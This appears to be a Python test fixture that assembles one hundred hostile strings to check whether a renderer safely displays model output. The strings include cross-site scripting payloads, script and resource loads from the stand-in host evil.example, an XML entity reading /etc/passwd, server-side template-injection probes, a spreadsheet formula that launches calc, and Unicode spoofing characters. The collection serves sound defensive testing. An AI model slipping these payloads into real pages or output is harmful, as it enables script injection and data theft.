"""One hundred texts that a model might say to do harm in whatever shows them.

Wherever one of them ran, it would set `window.pwned`, ask `evil.example` for something, change
the page, or leave a 49 where a template language computed seven times seven.
"""

from __future__ import annotations

from itertools import product

_RUN = "window.pwned=1"

_HANDLERS = (
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<div style=animation-name:x onanimationstart={run}>",
    "<marquee onstart={run}>x</marquee>",
)
_BREAKOUTS = ("", '">', "'>", "--></style></title></textarea>", "</script></svg></math>")

_SCRIPTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x00>{run}</script>",
    "</script><script>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{{display:none}}</style>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<form action=//evil.example/><button autofocus>go</button></form>",
    "<a href=javascript:{run} autofocus>here</a>",
    "[here](javascript:{run})",
    "![here](//evil.example/x.png)",
)
_PICTURES = (
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href=javascript:{run}><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s /></svg>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<svg><image href=//evil.example/x.png /></svg>",
    "<svg><use href=//evil.example/x.svg#a /></svg>",
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<svg fill=url(//evil.example/x)><rect width=9 height=9 /></svg>",
    "]]><script>{run}</script>",
)
_TEMPLATES = (
    "{{{{7*7}}}}",
    "{{% for x in [1] %}}{{{{7*7}}}}{{% endfor %}}",
    "{{% raw %}}{{{{7*7}}}}{{% endraw %}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{# hidden #}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "`${{{run}}}`",
    "');{run};//",
    '";{run};//',
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "datum.constructor.constructor('{run}')()",
    'signal: [{{"expr": "{run}"}}]',
    "%(group)s {{group}} {{0}} {{}} %s %n",
)
_SIGNS = (
    "bar \u202egnp.exe\u202c and \u2066hid\u2069 behind it",
    "\u200b\u200c\u200d\u2060\ufeffnothing to see\u00ad",
    "\x00\x07\x08\x1b[31m\x1b]0;title\x07\x9b bells",
    "\ud800 half of a character \udfff and \udc00\ud800 turned round",
    "\U000e0041\U000e0042\U000e007f tags that nobody sees",
    "\u2028line\u2029paragraph\x0b\x0c\x85 ends",
    "\ufdd0\ufffe\uffff never characters",
    "Z" + "\u0335\u0336\u0337\u0338\u20d2" * 40 + " piled marks",
    "\u0430\u0440\u0440le.com and \uff1cscript\uff1e look-alikes",
    "\u05d0\u05d1\u05d2 (1) \u0661\u0662\u0663 ]{run}[ both ways",
    "line\r\nline\rline\n\n\n\n\tline",
    "=cmd|' /C calc'!A0",
)
_LONG = ("A" * 1_000_000, "<b>" * 20_000)

_WRITTEN = [
    *(before + handler for before, handler in product(_BREAKOUTS, _HANDLERS)),
    *_SCRIPTS,
    *_PICTURES,
    *_TEMPLATES,
]
HOSTILE_TEXTS: tuple[str, ...] = (
    *(text.format(run=_RUN) for text in _WRITTEN),
    *(text.replace("{run}", _RUN) for text in _SIGNS),
    *_LONG,
)
assert len(HOSTILE_TEXTS) == len(set(HOSTILE_TEXTS)) == 100
